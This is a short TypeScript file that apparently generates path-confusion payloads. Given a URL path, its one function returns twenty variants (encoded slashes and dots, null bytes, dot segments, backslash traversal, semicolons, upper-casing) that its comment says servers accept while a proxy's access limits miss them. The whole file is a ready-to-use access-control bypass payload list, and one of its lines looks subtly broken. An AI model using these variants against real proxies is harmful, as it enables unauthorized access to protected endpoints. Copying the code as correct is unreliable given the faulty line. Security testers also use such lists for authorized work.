/** Other spellings of a path of one or more parts, which servers may take for the path. Limits of a proxy miss them. */
export const otherPaths = (path: string): string[] => {
  const parts = path.split('/');
  const [last = ''] = parts.slice(-1);
  const folder = parts.slice(0, -1).join('/');
  return [
    `${path}//`,
    `${path}/.`,
    `${path}/x`,
    `${path}%2f`,
    `${path}%20`,
    `${path}%00`,
    `${path}%2e`,
    `${path}.`,
    `${path};x`,
    `/${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/%2e${path}`,
    `/x/%2e%2e${path}`,
    `/x%2f..${path}`,
    `/x\\..\\${path.slice(1)}`,
    `${folder}/%${last.charCodeAt(0).toString(16)}${last.slice(1)}`,
    `${folder}/${last.replace('.', '%2e')}`.replace(path, `${path}/..%2f${last}`),
    path.toUpperCase(),
    `${folder}/${last.toUpperCase()}`,
  ];
};
